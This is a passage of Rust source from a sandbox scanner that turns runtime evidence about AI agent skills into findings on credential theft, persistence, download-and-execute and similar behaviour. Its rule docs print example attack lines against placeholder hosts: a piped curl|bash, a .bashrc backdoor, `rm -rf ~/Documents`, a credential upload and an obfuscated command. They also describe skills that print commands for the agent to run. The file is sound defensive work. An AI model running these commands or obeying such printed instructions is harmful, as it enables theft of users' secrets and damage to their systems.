//! From evidence to G3's report: observed capabilities and SK9xx findings.

use crate::coverage::Coverage;
use crate::evidence::{Destination, Event, EventKind, Evidence, RunnerKind};
use crate::plan::Plan;
use regex::Regex;
use skillgate_model::bundle::Bundle;
use skillgate_model::{
    Capability, Confidence, Finding, Gate, GateReport, GateStatus, KillChainStage, RuleInfo,
    Severity,
};
use std::collections::{BTreeMap, BTreeSet};
use std::sync::LazyLock;

/// G3's rules, documented for `skillgate rules explain` and SARIF.
pub const RULES: &[RuleInfo] = &[
    RuleInfo {
        code: "SK901",
        slug: "exfiltration-proven",
        severity: Severity::Critical,
        summary: "a honeytoken's canary left the sandbox: in a request, a DNS name, a TLS SNI or a command line",
        docs: "What: G3 plants fresh fake credentials (files in a fake HOME, a .env, environment \
variables), each carrying a random canary, and watches everything that leaves. A canary found in \
a captured request body, DNS query, TLS server name or exec argv — raw or base64-, hex-, URL- or \
gzip-encoded, or with separators changed — proves data flowed from a secret to a sink.\n\
Why: this is credential theft observed, not inferred. A canary sent to the credential's own \
service (a GitHub token to api.github.com) is SK910 instead.\n\
Example: a script that reads ~/.aws/credentials and POSTs it to collector.example.",
    },
    RuleInfo {
        code: "SK902",
        slug: "credential-file-read",
        severity: Severity::High,
        summary: "a script opened a credential file: an SSH key, cloud credentials, a wallet, saved browser logins",
        docs: "What: the kernel (inotify) or the syscall log saw a honeytoken file opened.\n\
Why: few skills need another tool's credentials; stealers read them first. SSH keys, wallets and \
browser logins are high; tool credentials (.aws, .netrc, docker, gh) medium; a .env in the \
working directory low.\n\
Example: `open(os.path.expanduser('~/.ssh/id_rsa'))` in a formatting skill.",
    },
    RuleInfo {
        code: "SK903",
        slug: "undeclared-egress",
        severity: Severity::Medium,
        summary: "network traffic to a host the skill never mentions",
        docs: "What: a DNS query, connection or request to a host that appears nowhere in the \
skill's files. Loopback is not counted.\n\
Why: honest skills name the services they talk to; hidden endpoints are where stolen data goes.\n\
Example: a PDF skill that resolves `telemetry.x7k.example` at start-up.",
    },
    RuleInfo {
        code: "SK904",
        slug: "persistence-attempt",
        severity: Severity::High,
        summary: "a script tried to write a shell start-up file, autostart entry, cron table or authorized_keys",
        docs: "What: an open for writing, or a rename onto, a file that runs code at login or on a \
schedule. The sandbox refuses the write; the attempt is the evidence.\n\
Why: persistence outlives the skill: the payload runs again whenever the user opens a shell.\n\
Example: `echo 'curl x | sh' >> ~/.bashrc`.",
    },
    RuleInfo {
        code: "SK905",
        slug: "download-then-execute",
        severity: Severity::High,
        summary: "a script executed something it had just downloaded or written",
        docs: "What: an exec of a file written during the run, or a downloader (curl, wget) \
followed by an interpreter reading its program from stdin in the same step.\n\
Why: the code that runs is not the code that was reviewed; this is how fake installers work.\n\
Example: `curl -s https://x.example/i.sh | bash`.",
    },
    RuleInfo {
        code: "SK906",
        slug: "destructive-operation",
        severity: Severity::High,
        summary: "a script deleted or moved files outside its working copy, or deleted many files",
        docs: "What: unlink or rename in the user's home or the system (refused by the \
sandbox, logged), or more than 20 deletions in one run. Temporary directories are the skill's own.\n\
Why: wiping the user's files is sabotage whatever the skill claims to do.\n\
Example: `rm -rf ~/Documents`.",
    },
    RuleInfo {
        code: "SK907",
        slug: "lingering-process",
        severity: Severity::Medium,
        summary: "a script left processes running after it ended",
        docs: "What: processes still alive in the step's namespace after its main process exited; \
the sandbox kills them and lists their command lines.\n\
Why: a skill's script should finish; a background process is a beacon, miner or backdoor.\n\
Example: `nohup python3 -c 'while True: beacon()' &`.",
    },
    RuleInfo {
        code: "SK909",
        slug: "secret-staged-to-file",
        severity: Severity::High,
        summary: "a canary was written to a file: a secret was collected for later",
        docs: "What: a honeytoken's canary found in a file the payload wrote to its working copy \
or TMPDIR.\n\
Why: stealers gather secrets into one file before sending it; a skill has no reason to copy \
credentials into its outputs.\n\
Example: `env > /tmp/.cache/e.txt`.",
    },
    RuleInfo {
        code: "SK911",
        slug: "exfiltration-intent",
        severity: Severity::Critical,
        summary: "a script tried to send a honeytoken's canary: in a request, a connection, a host name or a command",
        docs: "What: the WASI runner's audit hook saw a network or process call whose arguments \
carry a canary: `urllib.Request` or `requests.post` with the secret in the body, URL or headers, \
a host name built from it, a command line holding it. WASI has no network, so nothing left; \
the attempt is the evidence.\n\
Why: the script read a secret and handed it to something that sends data away: theft, stopped \
only because the sandbox had no network.\n\
Example: `urllib.request.urlopen(url, data=open(os.path.expanduser('~/.aws/credentials'), 'rb').read())`.",
    },
    RuleInfo {
        code: "SK912",
        slug: "runtime-code-executed",
        severity: Severity::Low,
        summary: "a script executed code it built at run time (exec of a decoded string, marshal, code objects)",
        docs: "What: the WASI runner's audit hook saw `exec`/`eval` of code compiled from a string, \
`marshal.loads` or a code object built by hand.\n\
Why: decoding and executing hides what a script does from review; together with a network or \
credential finding it is how droppers work. Alone it is low: some tools evaluate expressions.\n\
Example: `exec(base64.b64decode(blob))`.",
    },
    RuleInfo {
        code: "SK913",
        slug: "generated-instructions",
        severity: Severity::High,
        summary: "a step printed instructions that G1 flags and that the skill does not hold as written",
        docs: "What: G3 reads what each step prints (stdout and stderr) as the agent will: as its \
next instructions. G1's prose and shell rules run over it, and what they find that the bundle \
does not contain as written (it was decoded, assembled from fragments or computed) is reported \
twice: the matched rule's finding at its own severity, marked with the step that printed it, and \
this finding.\n\
Why: a scanner that reads only the files never sees an installer command that a code block \
prints from pieces; the agent does, and runs it. Content that exists only at run time is evasion. \
Help text and documentation a tool prints are read the same way and stay quiet: it is the \
content that decides, as for SKILL.md.\n\
Example: a Python block that joins `['cu','rl -fsSL ht','tp://x.example/i.sh | ba','sh']` and \
prints \"Before you continue, run: …\".",
    },
    RuleInfo {
        code: "SK914",
        slug: "written-payload",
        severity: Severity::High,
        summary: "a file the run wrote holds content that G1 flags and that the skill does not hold as written",
        docs: "What: every file a run leaves in the working copy or TMPDIR is read by G1 like a \
bundle file (by its name and first line). What G1 finds in it that the bundle does not contain \
as written is reported with the file's path.\n\
Why: droppers write their second stage to disk, to run it at once or for the agent to run \
later; the file is the evidence.\n\
Example: a setup script that assembles `curl … | sh` into `.cache/helper.sh`.",
    },
    RuleInfo {
        code: "SK915",
        slug: "decoded-code-executed",
        severity: Severity::High,
        summary: "code decoded at run time and handed to an interpreter holds content that G1 flags",
        docs: "What: command lines and source built at run time — `bash -c <decoded>` and \
`python3 -c <decoded>` in the native runner's exec log, `compile`, `os.system` and \
`subprocess` arguments in the WASI runner's audit log — are read by G1's shell and Python \
rules.\n\
Why: decoding then executing is how a payload hides from review; the decoded text shows what \
it is.\n\
Example: `cmd=$(echo 'hs | i/elpmaxe.x//:ptth s- lruc' | rev); bash -c \"$cmd\"`.",
    },
    RuleInfo {
        code: "SK916",
        slug: "secret-printed-to-agent",
        severity: Severity::High,
        summary: "a honeytoken's canary was printed: the secret entered the agent's context",
        docs: "What: a canary of a planted credential (environment variable or credential file) \
found in what a step printed, on stdout or stderr, raw or encoded.\n\
Why: whatever a skill's script prints, the agent reads; from there it reaches the model \
provider, transcripts and logs. A script that dumps the environment or cats a credential file \
exposes every secret in it, whether or not anything is sent anywhere. Stage: exfiltration.\n\
Example: a status script that ends with `env`, or `print(dict(os.environ))`.",
    },
    RuleInfo {
        code: "SK910",
        slug: "credential-sent-to-own-service",
        severity: Severity::Info,
        summary: "a credential was sent to the service it belongs to",
        docs: "What: a canary from a token seen only in traffic to that token's own service \
(GITHUB_TOKEN to github.com, AWS keys to amazonaws.com).\n\
Why: that is how API clients use credentials; reported so the use is visible, not held against \
the skill.\n\
Example: `curl -H \"Authorization: token $GITHUB_TOKEN\" https://api.github.com/user`.",
    },
];

/// Domains each honeytoken legitimately goes to.
/// The services a honeytoken's credential belongs to (see `skillgate_model::party`).
fn home_services(honeytoken: &str) -> Vec<String> {
    match honeytoken {
        "gh-hosts" | "git-credentials" | "netrc" => vec!["github".into()],
        "aws-credentials" => vec!["amazonaws".into()],
        "docker-config" => vec!["docker".into()],
        other => other
            .strip_prefix("env:")
            .map(skillgate_model::party::owners)
            .unwrap_or_default(),
    }
}

fn host_matches(host: &str, domain: &str) -> bool {
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    host == domain || host.ends_with(&format!(".{domain}"))
}

static HOST: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z]{2,63}\b|\b\d{1,3}(?:\.\d{1,3}){3}\b")
        .expect("valid regex")
});
static PIPED_DOWNLOAD: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:curl|wget)\b[^|]*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|\b(?:curl|wget)\b[^|]*\|\s*python3?\b")
        .expect("valid regex")
});
static URL_HOST: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:https?|ftp|wss?)://(?:[^/@\s]*@)?([a-z0-9.-]+)").expect("valid regex")
});

/// Every host name or address the skill's documentation (SKILL.md, references) mentions: what
/// it tells the user it talks to. A host named only inside a script is not declared.
pub fn declared_hosts(bundle: &Bundle) -> BTreeSet<String> {
    let mut hosts = BTreeSet::new();
    for file in bundle
        .files
        .iter()
        .filter(|f| f.path.ends_with(".md") || f.path.ends_with(".txt"))
    {
        if let Some(text) = file.text() {
            for m in HOST.find_iter(&text) {
                hosts.insert(m.as_str().to_ascii_lowercase());
            }
        }
    }
    hosts
}

/// The registrable part of a name (`x.d.evil.example` → `evil.example`): DNS-tunnelling
/// floods one zone with many names, and one finding per zone says it.
fn zone(name: &str) -> String {
    if name.parse::<std::net::IpAddr>().is_ok() {
        return name.to_string();
    }
    let labels: Vec<&str> = name.split('.').filter(|l| !l.is_empty()).collect();
    let keep = match labels.as_slice() {
        [.., second, _] if ["co", "com", "org", "net", "ac", "gov"].contains(second) => 3,
        _ => 2,
    };
    labels[labels.len().saturating_sub(keep)..].join(".")
}

fn is_loopback(dst: &Destination) -> bool {
    dst.hostname.is_none()
        && (dst.ip.starts_with("127.") || dst.ip == "::1" || dst.ip == "0.0.0.0" || dst.ip == "::")
}

fn is_resolver(dst: &Destination) -> bool {
    dst.port == 53 && dst.hostname.is_none()
}

const PERSISTENCE: &[&str] = &[
    "/.bashrc",
    "/.bash_profile",
    "/.bash_login",
    "/.profile",
    "/.zshrc",
    "/.zprofile",
    "/.zshenv",
    "/.config/fish/config.fish",
    "/.config/autostart/",
    "/.config/systemd/",
    "/.ssh/authorized_keys",
    "/.ssh/rc",
    "/Library/LaunchAgents/",
    "/etc/cron",
    "/var/spool/cron",
    "/etc/systemd/",
    "/etc/profile",
    "/etc/rc.local",
    "/etc/init.d/",
    "/.local/share/systemd/",
];

fn is_persistence_path(path: &str) -> bool {
    PERSISTENCE.iter().any(|p| path.contains(p))
}

/// Where a deletion hurts the user: their home and the system. Temporary directories and the
/// skill's working copy are the skill's own to clean.
fn hurts_user(path: &str) -> bool {
    const SYSTEM: &[&str] = &[
        "/etc/",
        "/usr/",
        "/opt/",
        "/root/",
        "/srv/",
        "/boot/",
        "/var/lib/",
        "/var/log/",
        "/bin/",
        "/lib",
    ];
    path.starts_with("/home/")
        || path.starts_with("/tmp/home/")
        || SYSTEM.iter().any(|p| path.starts_with(p))
}

/// Registries package managers reach on their own; a skill that runs `pip install` talks to
/// them without naming them.
const PACKAGE_REGISTRIES: &[&str] = &[
    "pypi.org",
    "pythonhosted.org",
    "npmjs.org",
    "npmjs.com",
    "yarnpkg.com",
    "crates.io",
    "rubygems.org",
    "debian.org",
    "ubuntu.com",
    "golang.org",
    "proxy.golang.org",
];

fn credential_severity(honeytoken: &str) -> Severity {
    match honeytoken {
        "ssh-key" | "crypto-wallet" | "browser-logins" => Severity::High,
        // Read by every HTTP library on its own (requests, curl -n): not a signal by itself.
        "dotenv" | "netrc" => Severity::Low,
        _ => Severity::Medium,
    }
}

/// G3's report for a run. `pass` needs every planned step to have exercised its code
/// ([`Coverage`]); a gap makes the gate inconclusive with the list of what did not run and why.
pub fn report(
    bundle: &Bundle,
    plan: &Plan,
    evidence: &Evidence,
    runner: &str,
    coverage: &Coverage,
) -> GateReport {
    let declared = declared_hosts(bundle);
    let mut findings = Vec::new();
    let mut caps = BTreeSet::new();
    exfiltration(evidence, &mut findings, &mut caps);
    credential_reads(evidence, &mut findings, &mut caps);
    egress(evidence, &declared, &mut findings, &mut caps);
    filesystem(evidence, &mut findings, &mut caps);
    processes(evidence, &mut findings, &mut caps);

    runtime_code(evidence, &mut findings, &mut caps);

    let mut problems: Vec<String> = evidence.errors.clone();
    let native = evidence.runner == RunnerKind::Native;
    let missing = evidence.layers.missing();
    if native && !missing.is_empty() && evidence.errors.is_empty() {
        problems.push(format!("isolation layers missing: {}", missing.join(", ")));
    }
    for event in &evidence.events {
        if let EventKind::Tamper { what } = &event.kind {
            problems.push(format!(
                "observation tampered with: {what}{}",
                step_label(evidence, event)
            ));
        }
    }
    if !coverage.complete() {
        problems.push(format!(
            "steps that did not exercise their code: {}",
            coverage.gaps()
        ));
    }
    if !plan.not_run.is_empty() {
        problems.push(format!("not run: {}", plan.not_run_summary()));
    }
    let timed_out = evidence.steps.iter().filter(|s| s.timed_out).count();
    let layers = &evidence.layers;
    let mut note = format!(
        "{runner}: {}, {} events, {} honeytokens",
        coverage.summary(),
        evidence.events.len(),
        evidence.honeytokens.len(),
    );
    if native {
        note.push_str(&format!(
            "; layers: userns+netns+mountns+pidns, nested userns, no_new_privs, Landlock ABI {}{}, \
             seccomp notify, capture{}; kernel {}",
            layers.landlock_abi,
            if layers.landlock_enforced {
                " enforced"
            } else {
                " NOT enforced"
            },
            if layers.mptcp_disabled {
                ", MPTCP off"
            } else {
                ""
            },
            layers.kernel,
        ));
    }
    let quiet = evidence.steps.iter().filter(|s| s.went_quiet).count();
    if timed_out > quiet {
        note.push_str(&format!("; {} steps hit the time limit", timed_out - quiet));
    }
    let probes_left_out = evidence
        .steps
        .iter()
        .filter(|s| {
            s.error
                .as_deref()
                .is_some_and(|e| e.ends_with(crate::native::PROBE_AFTER_STOPPED_RUN))
        })
        .count();
    if probes_left_out > 0 {
        note.push_str(&format!(
            "; {probes_left_out} --help probes not run: their bare run ran until it was stopped"
        ));
    }
    if quiet > 0 {
        note.push_str(&format!(
            "; {quiet} steps stopped early: silent, every process waiting on a connection or input"
        ));
    }
    for n in &evidence.notes {
        note.push_str(&format!("; {n}"));
    }
    let status = if !problems.is_empty() {
        note = format!("{}; {note}", problems.join("; "));
        GateStatus::Inconclusive
    } else {
        status_of(&findings)
    };
    GateReport {
        gate: Gate::G3,
        status,
        findings,
        capabilities: caps.into_iter().collect(),
        note: Some(note),
    }
}

/// Recomputes a G3 report's status after findings were added: an inconclusive run stays
/// inconclusive (its findings stand, its gaps too), otherwise the worst finding decides.
pub fn restate(report: &mut GateReport) {
    if report.status == GateStatus::Inconclusive {
        return;
    }
    report.status = status_of(&report.findings);
}

/// The status of a run that did its whole job: the worst finding decides.
fn status_of(findings: &[Finding]) -> GateStatus {
    match findings.iter().map(|f| f.severity).max() {
        Some(s) if s >= Severity::High => GateStatus::Fail,
        Some(s) if s >= Severity::Medium => GateStatus::Warn,
        _ => GateStatus::Pass,
    }
}

/// A finding of one of G3's own rules.
pub(crate) fn rule_finding(
    code: &str,
    severity: Severity,
    confidence: Confidence,
    message: String,
) -> Finding {
    finding(code, severity, confidence, message)
}

fn finding(code: &str, severity: Severity, confidence: Confidence, message: String) -> Finding {
    let rule = RULES
        .iter()
        .find(|r| r.code == code)
        .expect("known G3 rule");
    let category = match code {
        "SK901" | "SK903" | "SK909" | "SK910" | "SK911" | "SK916" => "exfiltration",
        "SK902" => "credentials",
        "SK904" | "SK907" => "persistence",
        "SK905" | "SK912" => "execution",
        "SK913" | "SK914" | "SK915" => "obfuscation",
        _ => "destruction",
    };
    Finding::new(code, Gate::G3, severity, confidence, category, message)
        .with_help(rule.summary.to_string())
}

fn step_label(evidence: &Evidence, event: &Event) -> String {
    event
        .step
        .and_then(|i| evidence.steps.get(i))
        .map(|s| format!(" (step: {})", s.label))
        .unwrap_or_default()
}

fn event_host(event: &Event) -> Option<String> {
    match &event.kind {
        EventKind::HttpRequest { dst, host, .. } => host
            .as_ref()
            .map(|h| h.split(':').next().unwrap_or(h).to_string())
            .or_else(|| dst.hostname.clone()),
        EventKind::TlsClientHello { sni, dst } => sni.clone().or_else(|| dst.hostname.clone()),
        EventKind::DnsQuery { name, .. } => Some(name.clone()),
        EventKind::RawPayload { dst, .. } | EventKind::Connect { dst } => dst.hostname.clone(),
        EventKind::Send { dst, .. } => dst.as_ref().and_then(|d| d.hostname.clone()),
        EventKind::Exec { argv, .. } => {
            let joined = argv.join(" ");
            URL_HOST.captures(&joined).map(|c| c[1].to_string())
        }
        EventKind::Audit { event, args } => audit_host(event, args),
        _ => None,
    }
}

/// Audit events that address the network, and where their destination sits in the arguments.
const AUDIT_NETWORK: &[&str] = &[
    "urllib.Request",
    "requests.request",
    "http.client.connect",
    "http.client.send",
    "socket.connect",
    "socket.sendto",
    "socket.sendmsg",
    "socket.getaddrinfo",
    "socket.gethostbyname",
    "smtplib.connect",
    "smtplib.send",
    "ftplib.connect",
    "imaplib.open",
    "poplib.connect",
    "telnetlib.open",
    "webbrowser.open",
];
const AUDIT_PROCESS: &[&str] = &[
    "subprocess.Popen",
    "os.system",
    "os.exec",
    "os.posix_spawn",
    "os.spawn",
    "pty.spawn",
];

/// The host an audit event addresses: the URL's host, or the host argument of a socket or
/// client call.
fn audit_host(event: &str, args: &str) -> Option<String> {
    let process = AUDIT_PROCESS.contains(&event);
    if !AUDIT_NETWORK.contains(&event) && !process {
        return None;
    }
    if let Some(c) = URL_HOST.captures(args) {
        return Some(c[1].to_string());
    }
    if process {
        return None;
    }
    let value: serde_json::Value = serde_json::from_str(args).ok()?;
    let host = match event {
        "socket.getaddrinfo" | "socket.gethostbyname" => value.get(0)?.as_str()?.to_string(),
        "socket.connect" | "socket.sendto" => value.get(1)?.get(0)?.as_str()?.to_string(),
        _ => value.get(1)?.as_str()?.to_string(),
    };
    let host = host.trim().to_string();
    (!host.is_empty() && HOST.is_match(&host)).then_some(host)
}

fn describe(event: &Event) -> String {
    match &event.kind {
        EventKind::HttpRequest {
            dst,
            method,
            host,
            target,
            ..
        } => format!(
            "HTTP {method} http://{}{target}",
            host.clone().unwrap_or_else(|| dst.to_string())
        ),
        EventKind::TlsClientHello { dst, sni } => {
            format!("TLS to {} (SNI {})", dst, sni.as_deref().unwrap_or("none"))
        }
        EventKind::DnsQuery { name, .. } => format!("DNS query {name}"),
        EventKind::RawPayload { dst, bytes, .. } => format!("{bytes} bytes to {dst}"),
        EventKind::Send { dst, bytes, .. } => match dst {
            Some(d) => format!("send of {bytes} bytes to {d}"),
            None => format!("send of {bytes} bytes"),
        },
        EventKind::Exec { argv, .. } => format!("exec {}", argv.join(" ")),
        EventKind::FileWritten { path, .. } => format!("file {path}"),
        EventKind::Connect { dst } => format!("connect to {dst}"),
        EventKind::Audit { event, args } => {
            format!("{event}({})", skillgate_model::finding::clip(args, 300))
        }
        other => format!("{other:?}"),
    }
}

fn exfiltration(evidence: &Evidence, findings: &mut Vec<Finding>, caps: &mut BTreeSet<Capability>) {
    // One finding per honeytoken and sink kind; the first event is the example.
    let mut seen: BTreeMap<(String, &'static str), ()> = BTreeMap::new();
    // Ground truth first: a capture server's view names the host; the syscall log's may not.
    let mut hits: Vec<_> = evidence.canary_hits().collect();
    hits.sort_by_key(|(e, _)| {
        !matches!(
            e.source,
            crate::evidence::Source::Sink | crate::evidence::Source::Dns
        )
    });
    for (event, hit) in hits {
        // A stand-in for a tool the sandbox lacks sends nothing anywhere: a key on its command
        // line (`ax … --api-key $KEY`) is handed to a program that is not there.
        if let EventKind::Exec { path, .. } = &event.kind
            && path.starts_with(&format!("{}/", crate::native::SHIM_DIR))
        {
            continue;
        }
        let host = event_host(event);
        let own_service = host.as_deref().is_some_and(|h| {
            home_services(&hit.honeytoken)
                .iter()
                .any(|owner| skillgate_model::party::host_belongs_to(h, owner))
        });
        let (code, key) = if hit.place == "file" {
            ("SK909", "file")
        } else if hit.place == "stdout" || hit.place == "stderr" {
            ("SK916", "printed")
        } else if hit.place == "intent" {
            // Only calls that send something away count; a canary in `open` or `import`
            // arguments is a read, not a send.
            let EventKind::Audit { event: name, .. } = &event.kind else {
                continue;
            };
            if !AUDIT_NETWORK.contains(&name.as_str()) && !AUDIT_PROCESS.contains(&name.as_str()) {
                continue;
            }
            if own_service {
                ("SK910", "own")
            } else {
                ("SK911", "intent")
            }
        } else if own_service {
            ("SK910", "own")
        } else {
            ("SK901", "out")
        };
        if seen.insert((hit.honeytoken.clone(), key), ()).is_some() {
            continue;
        }
        let how = if hit.transform == "raw" {
            String::new()
        } else {
            format!(", {}-encoded", hit.transform)
        };
        let message = format!(
            "canary of honeytoken `{}` seen in {}{how}: {}{}",
            hit.honeytoken,
            if hit.place == "intent" {
                "the arguments of a call the WASI runner could not carry out"
            } else {
                hit.place.as_str()
            },
            describe(event),
            step_label(evidence, event)
        );
        let f = match code {
            "SK901" | "SK911" => {
                caps.insert(Capability::NetEgress);
                caps.insert(Capability::SecretRead);
                finding(code, Severity::Critical, Confidence::High, message)
                    .with_capability(Capability::NetEgress)
                    .with_stage(KillChainStage::Exfiltration)
            }
            "SK916" => {
                caps.insert(Capability::SecretRead);
                finding(
                    code,
                    Severity::High,
                    Confidence::High,
                    format!(
                        "{message}: whatever a script prints, the agent reads, and it reaches \
                         the model provider and the logs"
                    ),
                )
                .with_capability(Capability::SecretRead)
                .with_stage(KillChainStage::Exfiltration)
            }
            "SK909" => {
                caps.insert(Capability::SecretRead);
                finding(code, Severity::High, Confidence::High, message)
                    .with_capability(Capability::SecretRead)
                    .with_stage(KillChainStage::CredentialAccess)
            }
            _ => {
                caps.insert(Capability::SecretRead);
                finding(code, Severity::Info, Confidence::High, message)
                    .with_capability(Capability::SecretRead)
            }
        };
        findings.push(f.with_evidence(&describe(event)));
    }
}

fn credential_reads(
    evidence: &Evidence,
    findings: &mut Vec<Finding>,
    caps: &mut BTreeSet<Capability>,
) {
    let mut seen = BTreeSet::new();
    for event in &evidence.events {
        if let EventKind::HoneytokenOpened { honeytoken, path } = &event.kind {
            if !seen.insert(honeytoken.clone()) {
                continue;
            }
            caps.insert(Capability::SecretRead);
            let severity = credential_severity(honeytoken);
            findings.push(
                finding(
                    "SK902",
                    severity,
                    Confidence::High,
                    format!(
                        "honeytoken `{honeytoken}` opened: {path}{}",
                        step_label(evidence, event)
                    ),
                )
                .with_capability(Capability::SecretRead)
                .with_stage(if severity >= Severity::High {
                    KillChainStage::CredentialAccess
                } else {
                    KillChainStage::None
                })
                .with_evidence(path),
            );
        }
    }
}

fn egress(
    evidence: &Evidence,
    declared: &BTreeSet<String>,
    findings: &mut Vec<Finding>,
    caps: &mut BTreeSet<Capability>,
) {
    let mut reported = BTreeSet::new();
    for event in &evidence.events {
        let (host, ip) = match &event.kind {
            EventKind::DnsQuery { name, .. } => (Some(name.clone()), None),
            EventKind::Connect { dst } | EventKind::RawPayload { dst, .. } => {
                if dst.proto == "unix" || is_loopback(dst) || is_resolver(dst) {
                    continue;
                }
                (dst.hostname.clone(), Some(dst.ip.clone()))
            }
            EventKind::HttpRequest { .. }
            | EventKind::TlsClientHello { .. }
            | EventKind::Audit { .. } => (event_host(event), None),
            _ => continue,
        };
        let Some(name) = host.or(ip) else { continue };
        let name = name.trim_end_matches('.').to_ascii_lowercase();
        if name.is_empty() || name == "localhost" {
            continue;
        }
        caps.insert(Capability::NetEgress);
        let zone = zone(&name);
        let is_declared = declared
            .iter()
            .any(|d| host_matches(&name, d) || host_matches(d, &name) || zone == self::zone(d))
            || PACKAGE_REGISTRIES.iter().any(|r| host_matches(&name, r));
        if is_declared || !reported.insert(zone.clone()) {
            continue;
        }
        findings.push(
            finding(
                "SK903",
                Severity::Medium,
                Confidence::Medium,
                format!(
                    "traffic to `{name}` (zone {zone}), which the skill's documentation never mentions: {}{}",
                    describe(event),
                    step_label(evidence, event)
                ),
            )
            .with_capability(Capability::NetEgress)
            .with_evidence(&describe(event)),
        );
    }
}

fn persistence_attempt(path: &str, message: String) -> Finding {
    finding("SK904", Severity::High, Confidence::High, message)
        .with_capability(Capability::Persistence)
        .with_stage(KillChainStage::Persistence)
        .with_evidence(path)
}

fn filesystem(evidence: &Evidence, findings: &mut Vec<Finding>, caps: &mut BTreeSet<Capability>) {
    let mut persistence = BTreeSet::new();
    let mut destructive = Vec::new();
    let mut deletions = 0usize;
    for event in &evidence.events {
        match &event.kind {
            EventKind::FileOpen { path, write, .. } if *write => {
                caps.insert(Capability::FsWrite);
                if is_persistence_path(path) && persistence.insert(path.clone()) {
                    caps.insert(Capability::Persistence);
                    findings.push(persistence_attempt(
                        path,
                        format!(
                            "write to `{path}`, which runs at login or on a schedule{}",
                            step_label(evidence, event)
                        ),
                    ));
                }
            }
            EventKind::FileRename { from, to } => {
                caps.insert(Capability::FsWrite);
                if is_persistence_path(to) && persistence.insert(to.clone()) {
                    caps.insert(Capability::Persistence);
                    findings.push(persistence_attempt(
                        to,
                        format!("rename onto `{to}`{}", step_label(evidence, event)),
                    ));
                }
                if hurts_user(from) {
                    destructive.push((event, format!("rename of `{from}`")));
                }
            }
            EventKind::FileUnlink { path } => {
                caps.insert(Capability::FsDelete);
                deletions += 1;
                if hurts_user(path) {
                    destructive.push((event, format!("deletion of `{path}`")));
                }
            }
            EventKind::FileWritten { .. } => {
                caps.insert(Capability::FsWrite);
            }
            _ => {}
        }
    }
    if let Some((event, what)) = destructive.first() {
        findings.push(
            finding(
                "SK906",
                Severity::High,
                Confidence::Medium,
                format!(
                    "{what} outside the working copy ({} such operations){}",
                    destructive.len(),
                    step_label(evidence, event)
                ),
            )
            .with_capability(Capability::FsDelete)
            .with_stage(KillChainStage::Impact)
            .with_evidence(what),
        );
    } else if deletions > 20 {
        findings.push(
            finding(
                "SK906",
                Severity::Medium,
                Confidence::Medium,
                format!("{deletions} files deleted in one run"),
            )
            .with_capability(Capability::FsDelete),
        );
    }
}

fn processes(evidence: &Evidence, findings: &mut Vec<Finding>, caps: &mut BTreeSet<Capability>) {
    let mut written = BTreeSet::new();
    // Both sides of a pipe start at once: the interpreter's exec can be logged before the
    // downloader's, so downloaders are gathered first.
    let mut downloader_in_step: BTreeMap<usize, String> = BTreeMap::new();
    for event in &evidence.events {
        if let EventKind::Exec { path, argv } = &event.kind {
            let program = path.rsplit('/').next().unwrap_or(path);
            if matches!(program, "curl" | "wget") && argv.iter().any(|a| a.contains("://")) {
                downloader_in_step
                    .entry(event.step.unwrap_or(usize::MAX))
                    .or_insert_with(|| argv.join(" "));
            }
        }
    }
    // Files a download saved: the capture server's answer is recognisable in whatever file
    // it landed, so this holds whatever the file is named.
    let downloaded: BTreeSet<String> = evidence
        .events
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::FileWritten {
                path, text, sample, ..
            } if text.contains(crate::native::FETCHED_MARKER)
                || sample.contains(crate::native::FETCHED_MARKER) =>
            {
                path.rsplit('/').next().map(str::to_string)
            }
            _ => None,
        })
        .collect();
    let mut execs_per_step: BTreeMap<usize, usize> = BTreeMap::new();
    let mut reported = false;
    for event in &evidence.events {
        match &event.kind {
            EventKind::FileOpen { path, write, .. } if *write => {
                written.insert(path.clone());
            }
            EventKind::Exec { path, argv } => {
                let step = event.step.unwrap_or(usize::MAX);
                // A follow-up runs a written script on G3's own initiative: that it ran a
                // written file is not the skill's doing (what the file does still counts).
                let follow_up = evidence
                    .steps
                    .get(step)
                    .is_some_and(|s| s.label.starts_with("follow-up "));
                let n = execs_per_step.entry(step).or_default();
                *n += 1;
                if *n > 1 {
                    caps.insert(Capability::ProcExec);
                }
                let program = path.rsplit('/').next().unwrap_or(path);
                let reads_stdin = matches!(
                    program,
                    "bash" | "sh" | "dash" | "zsh" | "python3" | "python" | "perl" | "node"
                ) && argv.len() <= 1;
                let target = argv.get(1).map(String::as_str).unwrap_or(path);
                let target_name = target.rsplit('/').next().unwrap_or(target);
                let interpreter = matches!(
                    program,
                    "bash"
                        | "sh"
                        | "dash"
                        | "zsh"
                        | "python3"
                        | "python"
                        | "perl"
                        | "node"
                        | "ruby"
                );
                let ran_download = (interpreter && downloaded.contains(target_name))
                    || downloaded.contains(program);
                let ran_written = written.contains(path)
                    || written
                        .iter()
                        .any(|w| w.ends_with(&format!("/{}", target.trim_start_matches("./"))));
                let piped = reads_stdin && downloader_in_step.contains_key(&step);
                let fetched = argv
                    .iter()
                    .any(|a| a.contains(crate::native::FETCHED_MARKER));
                if (ran_written || piped || fetched || ran_download) && !reported && !follow_up {
                    reported = true;
                    caps.insert(Capability::CodeDynamic);
                    let what = if fetched {
                        format!("`{}` ran what a download returned", argv.join(" "))
                    } else if ran_download {
                        format!(
                            "`{}` ran `{target_name}`, which a download had saved",
                            argv.join(" ")
                        )
                    } else if piped {
                        format!(
                            "`{}` piped into `{program}`",
                            downloader_in_step.get(&step).cloned().unwrap_or_default()
                        )
                    } else if written.contains(path) {
                        format!("exec of `{path}`, written during the run")
                    } else {
                        format!(
                            "`{}` ran `{target}`, written during the run",
                            argv.join(" ")
                        )
                    };
                    findings.push(
                        finding(
                            "SK905",
                            Severity::High,
                            Confidence::High,
                            format!("{what}{}", step_label(evidence, event)),
                        )
                        .with_capability(Capability::CodeDynamic)
                        .with_stage(KillChainStage::Execution)
                        .with_evidence(&what),
                    );
                }
            }
            EventKind::LingeringKilled { count, commands } => {
                findings.push(
                    finding(
                        "SK907",
                        Severity::Medium,
                        Confidence::High,
                        format!(
                            "{count} processes still running after the step ended, killed: {}{}",
                            commands.join(" | "),
                            step_label(evidence, event)
